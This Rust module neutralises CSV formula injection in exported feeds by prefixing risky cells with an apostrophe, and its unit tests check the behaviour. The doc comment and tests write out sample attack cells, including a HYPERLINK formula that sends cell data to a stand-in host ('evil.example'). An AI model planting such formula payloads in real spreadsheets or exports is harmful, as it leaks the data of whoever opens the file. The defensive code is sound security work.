//! Text cells a spreadsheet cannot execute (issue 20).
//!
//! Excel, LibreOffice and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@`
//! (or a tab or carriage return before one) as a formula: a service or establishment name such
//! as `=HYPERLINK("https://evil.example/?"&A1,"Click")` would run on the officer's machine when
//! the feed is opened (CSV injection, OWASP). Every text cell of every CSV the system writes (the
//! Power BI feeds and the report's tables) goes through [`neutralise`]: such a cell is prefixed
//! with an apostrophe, which spreadsheets show as text and do not evaluate; the value read back
//! is the original with one leading `'`. Numbers, dates and flags are never text cells, so a
//! negative count stays a number. Parquet files carry types and are not changed.

use std::borrow::Cow;

/// Characters that make a spreadsheet treat a cell as a formula when they come first: the
/// OWASP list, and their full-width forms, which some spreadsheet locales also accept.
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The cell as a spreadsheet will show it without executing it.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// True when [`neutralise`] would change the cell.
pub fn is_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_prefixed_and_nothing_else_is() {
        for dangerous in [
            "=1+1",
            "+44 20 7946 0000",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=cmd",
            "\r=cmd",
            "\u{FF1D}1+1",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
        ] {
            assert_eq!(neutralise(dangerous), format!("'{dangerous}"));
            assert!(is_formula(dangerous));
        }
        for safe in [
            "Housing",
            "St Mary's Hall",
            "",
            " =not first",
            "3 = 3",
            "'quoted",
        ] {
            assert_eq!(neutralise(safe), safe);
            assert!(matches!(neutralise(safe), Cow::Borrowed(_)));
        }
    }
}
